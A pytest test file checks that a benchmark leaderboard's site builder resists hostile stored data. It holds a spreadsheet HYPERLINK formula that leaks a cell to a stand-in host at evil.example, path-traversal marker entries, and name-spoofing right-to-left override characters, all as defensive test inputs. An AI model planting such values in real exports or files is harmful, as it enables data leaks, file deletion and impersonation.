"""A leaderboard that cannot be lied to, nor turned against its maintainer: `leaderboard build` never deletes what it
did not write and never half-writes; stored data (anybody's bundle) never makes it read the maintainer's disk or
crash; downloads cannot run formulas; names cannot pose as other names; submitted rows stand apart with their
standing; the reading commands open the database read-only. The store is filled by hand, as in test_leaderboard."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from test_leaderboard import BASE_SETTINGS, PROV, TREE, fill, sample

from taps_bench.catalog.registry import Registry
from taps_bench.cli import main
from taps_bench.results import report
from taps_bench.results.store import Store, as_url
from taps_bench.results.submissions import insert, record_verification
from taps_bench.site import render
from taps_bench.site.board import collect, data_dir, load_schema
from taps_bench.site.publish import MARKER
from taps_bench.site.render import best, build

VERIFIED = {"passed": True, "prompts_rerun": 2}
FAILED = {"passed": False, "prompts_rerun": 2}


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def site_text(root: Path) -> Iterator[tuple[Path, str]]:
    for p in sorted(root.rglob("*")):
        if p.is_file():
            yield p, p.read_text()


@pytest.fixture
def store(tmp_path: Path) -> Store:
    store = Store(as_url(str(tmp_path / "r.db")))
    fill(store)
    return store


def submit(store: Store, name: str = "math-drafter", verification: dict[str, Any] | None = None,
           card: dict[str, Any] | None = None, steps: int = 8, provenance: Any = None,
           extra: dict[str, Any] | None = None) -> int:
    """One submission of `name` on gsm8k (its own baseline and speculative run), optionally verified."""
    spec_settings = {**BASE_SETTINGS, "drafter_checkpoint": f"hub:someone/{name}", "tree": TREE}
    runs = [{"kind": "baseline", "target": "tiny", "task": "gsm8k", "proposer": "autoregressive",
             "temperature": 0.0, "settings": BASE_SETTINGS, "provenance": PROV,
             "samples": [sample(q, 40, 40, 4.0) for q in ("a", "b")]},
            {"kind": "speculative", "target": "tiny", "task": "gsm8k", "proposer": name, "temperature": 0.0,
             "settings": spec_settings, "provenance": PROV if provenance is None else provenance,
             "samples": [sample(q, 40, steps, 2.0, **({"extra": extra} if extra else {})) for q in ("a", "b")]}]
    card = card or {"name": name, "target": "tiny", "method": "hass", "authors": ["Someone"], "license": "MIT",
                    "description": f"submitted {name}"}
    sha = hashlib.sha256(json.dumps([name, card, steps, str(provenance)], default=str).encode()).hexdigest()
    sid = insert(store, sha, card, {"taps_bench": "x"}, runs)
    if verification is not None:
        record_verification(store, sid, verification)
    return sid


def beside(folder: Path) -> list[str]:
    """What a folder holds, but the open test database's own files (SQLite's -wal and -shm come and go)."""
    return sorted(n for n in os.listdir(folder) if not n.startswith("r.db"))


def page_of(root: Path, needle: str) -> str:
    """The one drafter page containing `needle`."""
    pages = [t for p, t in site_text(root / "drafters") if p.suffix == ".html" and needle in t]
    assert len(pages) == 1, (needle, len(pages))
    return pages[0]


# -- 1. the site directory -------------------------------------------------------------------------------------


def test_a_directory_that_is_not_a_site_is_refused_and_untouched(store: Store, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "homepage"
    (out / "data").mkdir(parents=True)
    (out / "index.html").write_text("my own homepage")
    (out / "data" / "thesis.csv").write_text("precious")
    (out / "notes.txt").write_text("keep me")
    before, siblings = snapshot(out), beside(tmp_path)
    rc = main(["leaderboard", "build", "--db", str(tmp_path / "r.db"), "--out", str(out)])
    err = capsys.readouterr().err
    assert rc == 2 and err.startswith("taps-bench: error:") and "not a leaderboard" in err and err.count("\n") == 1
    assert snapshot(out) == before and beside(tmp_path) == siblings


def test_a_new_or_empty_directory_gets_a_site_with_its_marker(store: Store, tmp_path: Path) -> None:
    for out in (tmp_path / "new" / "site", tmp_path / "empty"):
        if out.name == "empty":
            out.mkdir()
        build(store, out)
        listed = (out / MARKER).read_text().splitlines()[1:]
        assert "index.html" in listed and "methodology.html" in listed
        assert sorted(listed) == sorted(k for k in snapshot(out) if k != MARKER)
    assert beside(tmp_path) == ["empty", "new"]  # no temporary directory left beside them
    assert os.listdir(tmp_path / "new") == ["site"]


def test_a_rebuild_deletes_only_what_its_marker_lists(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build(store, out)
    (out / "data" / "mine.csv").write_text("mine")
    (out / "README").write_text("about this site")
    (tmp_path / "victim.txt").write_text("outside")
    (tmp_path / "absolute.txt").write_text("outside too")
    marker = out / MARKER
    # A marker anybody could edit: paths outside the site are never followed (only paths of this test's own folder
    # are named, so that a broken guard costs nothing but this test).
    marker.write_text(marker.read_text() + f"../victim.txt\n../../{tmp_path.name}/victim.txt\n{tmp_path}/absolute.txt"
                      "\ndrafters/gone.html\n")
    (out / "drafters" / "gone.html").write_text("a page of a row that is no longer stored")
    build(store, out)
    assert (out / "data" / "mine.csv").read_text() == "mine" and (out / "README").read_text() == "about this site"
    assert (tmp_path / "victim.txt").read_text() == "outside" and not (out / "drafters" / "gone.html").exists()
    assert (tmp_path / "absolute.txt").read_text() == "outside too"
    assert beside(tmp_path) == ["absolute.txt", "site", "victim.txt"]


def test_a_build_that_fails_midway_leaves_the_old_site_and_nothing_else(store: Store, tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "site"
    build(store, out)
    (out / "notes.txt").write_text("mine")
    before, siblings = snapshot(out), beside(tmp_path)
    real, calls = render._charts, []

    def breaks_on_the_second_board(board: Any) -> Any:  # the first board's files are written by then
        calls.append(board)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(board)

    monkeypatch.setattr(render, "_charts", breaks_on_the_second_board)
    with pytest.raises(RuntimeError, match="disk full"):
        build(store, out)
    assert len(calls) == 2 and snapshot(out) == before and beside(tmp_path) == siblings
    calls.clear()
    with pytest.raises(RuntimeError):
        build(store, tmp_path / "fresh")
    assert beside(tmp_path) == siblings  # nothing created for a build that never finished


# -- 2. stored data drives no disk read and no crash --------------------------------------------------------------


def test_no_card_is_read_from_a_path_that_stored_settings_name(tmp_path: Path) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    secret = tmp_path / "maintainer-secrets"
    secret.mkdir()
    (secret / "card.yaml").write_text("description: SECRET-CONTENT\nname: x\n")
    base = store.get_or_create_run("baseline", "tiny", "gsm8k", "autoregressive", 0.0, BASE_SETTINGS, PROV)
    store.add_sample(base, sample("a", 40, 40, 4.0))
    for i, where in enumerate((f"path:{secret}", f"built:{secret}")):
        run = store.get_or_create_run("speculative", "tiny", "gsm8k", f"d{i}", 0.0,
                                      {**BASE_SETTINGS, "drafter_checkpoint": where, "tree": TREE}, PROV)
        store.add_sample(run, sample("a", 40, 10, 2.0))
    submit(store, "d-sub", card={"name": "d-sub", "target": "tiny", "checkpoint": {"path": str(secret)}})
    build(store, tmp_path / "site", Registry.load())
    assert not any("SECRET-CONTENT" in text for _, text in site_text(tmp_path / "site"))


BAD_CARDS = {
    "not a mapping": "a card as plain text",
    "a link that is a number": {"name": "x", "links": [123]},
    "a description that is a number": {"name": "x", "description": 7},
    "authors as one string": {"name": "x", "authors": "me"},
    "a NaN": {"name": "x", "description": "fine", "score": math.nan},
    "a huge string": {"name": "x", "notes": "x" * 30_000},
    "a deep nest": {"name": "x", "extra": json.loads("[" * 20 + "]" * 20)},
}


@pytest.mark.parametrize("card", list(BAD_CARDS.values()), ids=list(BAD_CARDS))
def test_a_malformed_card_shows_card_unavailable(tmp_path: Path, card: Any,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    base = store.get_or_create_run("baseline", "tiny", "gsm8k", "autoregressive", 0.0, BASE_SETTINGS, PROV)
    store.add_sample(base, sample("a", 40, 40, 4.0))
    run = store.get_or_create_run("speculative", "tiny", "gsm8k", "local-bad", 0.0,
                                  {**BASE_SETTINGS, "drafter_checkpoint": "x", "tree": TREE},
                                  {**PROV, "drafter_card": card})
    store.add_sample(run, sample("a", 40, 10, 2.0))
    if isinstance(card, dict):
        submit(store, "submitted-bad", card={**card, "name": "submitted-bad", "target": "tiny"})
    capsys.readouterr()
    build(store, tmp_path / "site")
    warnings = capsys.readouterr().err.splitlines()
    names = ["local-bad", *(["submitted-bad"] if isinstance(card, dict) else [])]
    assert len(warnings) == len(names)
    for name, line in zip(names, warnings, strict=True):
        assert line.startswith("taps-bench: warning:") and repr(name) in line and "card unavailable" in line
        page = page_of(tmp_path / "site", f"<h1><bdi>{name}</bdi>")
        assert '<dd class="card-unavailable">card unavailable</dd>' in page and '<pre class="card">' not in page
        assert "x" * 5000 not in page


def test_a_submitted_row_shows_only_its_own_submissions_card(tmp_path: Path) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    reg = Registry.load()
    official = "mathinstruct-hass"
    card = {"name": official, "target": "tiny", "method": "other", "authors": ["Mallory"], "license": "MIT",
            "description": "SUBMISSION-CARD"}
    submit(store, official, card=card, provenance={**PROV, "drafter_card": {"description": "PROVENANCE-CARD"}})
    build(store, tmp_path / "site", reg)
    page = page_of(tmp_path / "site", "SUBMISSION-CARD")
    registry_description = reg.cards["drafter"][official].model_dump().get("description")
    assert "PROVENANCE-CARD" not in page and "<bdi>Mallory</bdi>" in page
    assert not registry_description or registry_description not in page


def test_malformed_samples_and_provenance_do_not_stop_a_build(tmp_path: Path) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    nodes = {"a/accepted": {"n": "many", "confidence": 1, "entropy": 1}, "b/accepted": [1, 2],
             "c/accepted": {"n": math.nan, "confidence": 0.5, "entropy": 0.5},
             "d/accepted": {"n": 1e308, "confidence": 1e308, "entropy": 1.0},
             "e/accepted": {"n": 4, "confidence": 0.5, "entropy": 1.0}}
    submit(store, "odd-nodes", extra={"nodes": nodes})
    submit(store, "text-nodes", extra={"nodes": "not a mapping"}, steps=9)
    submit(store, "listed-provenance", provenance=["not", "a", "mapping"], steps=7)
    submit(store, "huge-provenance", provenance={"note": "y" * 200_000}, steps=6)
    build(store, tmp_path / "site")
    index = (tmp_path / "site" / "index.html").read_text()
    assert all(f"<bdi>{n}</bdi>" in index for n in ("odd-nodes", "text-nodes", "listed-provenance"))
    assert "e in" in index or ">e<" in index  # the one well-formed node entry is still charted
    page = page_of(tmp_path / "site", "<h1><bdi>huge-provenance</bdi>")
    assert "cut: over 50,000 characters" in page and "y" * 60_000 not in page


# -- 3. downloads and names ----------------------------------------------------------------------------------------


def test_spreadsheet_safe_quotes_formula_text_and_keeps_numbers() -> None:
    for text in ("=1+2", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "-1.5"):
        assert report.spreadsheet_safe(text) == "'" + text
    assert report.spreadsheet_safe(-1.5) == -1.5 and report.spreadsheet_safe(-3) == -3
    assert report.spreadsheet_safe("plain") == "plain" and report.spreadsheet_safe(None) is None


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_csv_downloads_and_exports_never_hold_a_formula(tmp_path: Path) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    base = store.get_or_create_run("baseline", "tiny", "gsm8k", "autoregressive", 0.0, BASE_SETTINGS, PROV)
    store.add_sample(base, sample("a", 40, 40, 4.0))
    for name in (FORMULA, "@cmd", "-2+3"):
        run = store.get_or_create_run("speculative", "tiny", "gsm8k", name, 0.0,
                                      {**BASE_SETTINGS, "drafter_checkpoint": "x", "tree": TREE, "offset": -3}, PROV)
        store.add_sample(run, sample("a", 40, 10, 2.0))
    build(store, tmp_path / "site")
    data = tmp_path / "site" / "data"
    rows = [r for r in csv.DictReader(next(data.glob("board-tiny*.csv")).open()) if r["kind"] != "oracle"]
    assert sorted(r["name"] for r in rows) == sorted(["'" + FORMULA, "'@cmd", "'-2+3"])
    assert {r["name"] for r in json.loads(next(data.glob("board-tiny*.json")).read_text())} >= {
        FORMULA, "@cmd", "-2+3"}  # JSON runs nothing: the names stay as stored
    for path in data.glob("drafter-*.csv"):
        assert all(not r["name"].startswith(("=", "@", "-")) for r in csv.DictReader(path.open()))
    exported = list(csv.DictReader(io.StringIO(report.export(store, "csv", "runs"))))
    spec = [r for r in exported if r["kind"] == "speculative"]
    assert sorted(r["proposer"] for r in spec) == sorted(["'" + FORMULA, "'@cmd", "'-2+3"])
    assert {r["settings.offset"] for r in spec} == {"-3"}  # a negative number stays a number
    samples = list(csv.DictReader(io.StringIO(report.export(store, "csv", "samples"))))
    assert all(not r["run_proposer"].startswith(("=", "@", "-")) for r in samples)


def test_stored_names_are_isolated_so_none_can_pose_as_another(tmp_path: Path) -> None:
    store = Store(as_url(str(tmp_path / "r.db")))
    tricky, task = "math-\u202eevol-drafter", "gsm\u202e8k-own"  # RLO: would draw the rest of the name reversed
    base = store.get_or_create_run("baseline", "tiny", task, "autoregressive", 0.0, BASE_SETTINGS, PROV)
    store.add_sample(base, sample("a", 40, 40, 4.0))
    run = store.get_or_create_run("speculative", "tiny", task, tricky, 0.0,
                                  {**BASE_SETTINGS, "drafter_checkpoint": "x", "tree": TREE},
                                  {**PROV, "drafter_card": {"name": tricky, "authors": ["\u202eA", "B"]}})
    store.add_sample(run, sample("a", 40, 10, 2.0))
    build(store, tmp_path / "site")
    index = (tmp_path / "site" / "index.html").read_text()
    assert '<a href="drafters/' in index and f"><bdi>{tricky}</bdi></a>" in index
    page = page_of(tmp_path / "site", f"<h1><bdi>{tricky}</bdi>")
    assert f"<td><bdi>{task}</bdi></td>" in page and "<bdi>\u202eA</bdi>, <bdi>B</bdi>" in page
    outside = index.replace(f"<bdi>{tricky}</bdi>", "").replace(f"data-name=\"{tricky}\"", "")
    svg = "".join(part.split("</svg>")[0] for part in outside.split("<svg")[1:])
    assert svg and "\u202e" not in svg  # chart labels (SVG has no <bdi>) drop the override


# -- 4. submitted rows ---------------------------------------------------------------------------------------------


def test_submitted_rows_stand_apart_with_their_standing(store: Store, tmp_path: Path) -> None:
    submit(store, verification=VERIFIED, steps=8)
    submit(store, verification=None, steps=4)  # the best τ on the board, claimed and never re-run
    submit(store, verification=FAILED, steps=5)
    board = next(b for b in collect(store) if b.target == "tiny")
    mine = sorted(r.standing for r in board.rows if r.name == "math-drafter")
    assert mine == ["measured", "unverified", "verification failed", "verified (2 prompts re-run)"]
    assert len({r.slug for r in board.rows}) == len(board.rows)
    assert best(load_schema(), board)["tau_gsm8k"] == pytest.approx(5.0)  # not the unverified claim's 10.0
    local = next(r for r in board.rows if r.name == "math-drafter" and r.submission is None)
    assert len(local.tasks["gsm8k"].runs) == 1  # nothing of a submission pooled into the row measured here
    build(store, tmp_path / "site")
    index = (tmp_path / "site" / "index.html").read_text()
    for label, how in (("verified (2 prompts re-run)", "verified"), ("unverified", "unverified"),
                       ("verification failed", "failed")):
        badge = f'<span class="badge standing {how}" title="Submitted results: {label}">{label}</span>'
        assert index.count(badge) == 1
        assert badge in page_of(tmp_path / "site", f'<dd class="standing">{label}</dd>')
    assert "badge standing" not in page_of(tmp_path / "site", "<h1><bdi>chat-drafter</bdi>")
    unverified = index.split("unverified</span>")[0].rsplit("<tr", 1)[1] + index.split("unverified</span>")[1]
    assert 'class="best"' not in unverified.split("</tr>")[0]  # an unchecked claim wins no mark
    table = list(csv.DictReader(next((tmp_path / "site" / "data").glob("board-tiny*.csv")).open()))
    standings = sorted(r["standing"] for r in table if r["name"] == "math-drafter")
    assert standings == ["measured", "unverified", "verification failed", "verified (2 prompts re-run)"]
    assert {r["standing"] for r in table if r["name"] == "chat-drafter"} == {"measured"}


def test_the_schema_can_hide_submitted_rows_nobody_verified(store: Store, tmp_path: Path) -> None:
    submit(store, verification=VERIFIED, steps=8)
    submit(store, verification=None, steps=4)
    submit(store, verification=FAILED, steps=5)
    data = yaml.safe_load((data_dir() / "schema.yaml").read_text())
    assert load_schema().rows.show_unverified is True
    data["rows"]["show_unverified"] = False
    path = tmp_path / "schema.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    schema = load_schema(path)
    board = next(b for b in collect(store, schema) if b.target == "tiny")
    assert sorted(r.standing for r in board.rows if r.name == "math-drafter") == [
        "measured", "verified (2 prompts re-run)"]
    build(store, tmp_path / "site", schema=schema)
    index = (tmp_path / "site" / "index.html").read_text()
    assert "badge standing verified" in index
    assert "badge standing unverified" not in index and "badge standing failed" not in index
    data["rows"]["show_unverified"] = "sometimes"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    with pytest.raises(ValueError, match="show_unverified"):
        load_schema(path)


# -- 5. the reading commands open the database read-only ---------------------------------------------------------


@pytest.mark.parametrize("command", [["show"], ["export"], ["leaderboard", "build", "--out", "SITE"]])
def test_a_mistyped_database_is_refused_and_nothing_is_created(tmp_path: Path, command: list[str],
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "typo" / "resutls.db"
    argv = [str(tmp_path / "site") if a == "SITE" else a for a in command]
    rc = main([*argv, "--db", str(db)])
    err = capsys.readouterr().err
    assert rc == 2 and err.startswith("taps-bench: error: no database at") and err.count("\n") == 1
    assert os.listdir(tmp_path) == []


def read_only_copy(store: Store, tmp_path: Path) -> Path:
    """The filled database alone in a folder, both made read-only (the caller makes them writable again)."""
    store.close()
    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "r.db"
    os.replace(tmp_path / "r.db", db)
    for leftover in tmp_path.glob("r.db-*"):
        leftover.unlink()
    db.chmod(0o444)
    folder.chmod(0o555)
    return db


def test_a_read_only_database_can_be_shown_exported_and_built(store: Store, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    db = read_only_copy(store, tmp_path)
    before = db.read_bytes()
    try:
        assert main(["show", "--db", str(db)]) == 0 and "math-drafter" in capsys.readouterr().out
        assert main(["export", "--db", str(db), "--format", "json"]) == 0
        assert len(json.loads(capsys.readouterr().out)) > 4
        assert main(["leaderboard", "build", "--db", str(db), "--out", str(tmp_path / "site")]) == 0
        assert (tmp_path / "site" / "index.html").is_file()
        assert db.read_bytes() == before and stat.S_IMODE(db.stat().st_mode) == 0o444
    finally:
        db.parent.chmod(0o755)
        db.chmod(0o644)


def test_reading_a_read_only_database_writes_nothing_beside_it(store: Store, tmp_path: Path) -> None:
    db = read_only_copy(store, tmp_path)
    try:
        assert main(["show", "--db", str(db)]) == 0
        assert os.listdir(db.parent) == ["r.db"]
    finally:
        db.parent.chmod(0o755)
        db.chmod(0o644)


# -- measure time: the card a run records -------------------------------------------------------------------------


def test_a_built_drafter_records_its_card_in_the_runs_provenance(tmp_path: Path) -> None:
    from taps_bench.measure.resolve import ResolvedDrafter, _own_card
    from taps_bench.measure.runner import proposer_provenance

    card = Registry.load().drafter("mathinstruct-hass")
    shown = card.model_dump(exclude={"origin"}, mode="json")
    built = ResolvedDrafter("mathinstruct-hass", None, "built:/store/mathinstruct-hass", "sha", card)  # type: ignore
    assert built.provenance() == {"drafter_card": shown}
    assert ResolvedDrafter("x", None, "hub:org/x", "sha", card).provenance() == {}  # type: ignore[arg-type]
    (tmp_path / "card.yaml").write_text("name: mine\ndescription: my own drafter\n")
    own = ResolvedDrafter("d", None, f"path:{tmp_path}", "sha", None, _own_card(tmp_path))  # type: ignore
    assert own.provenance() == {"drafter_card": {"name": "mine", "description": "my own drafter"}}
    (tmp_path / "card.yaml").write_text("[not: a mapping")
    assert _own_card(tmp_path) is None and _own_card(tmp_path / "absent") is None

    proposer = type("Proposer", (), {})()
    proposer.run_provenance = {"drafter_card": shown}  # as resolve.build_proposer sets it
    assert proposer_provenance(proposer) == {"drafter_card": shown} and proposer_provenance(object()) == {}
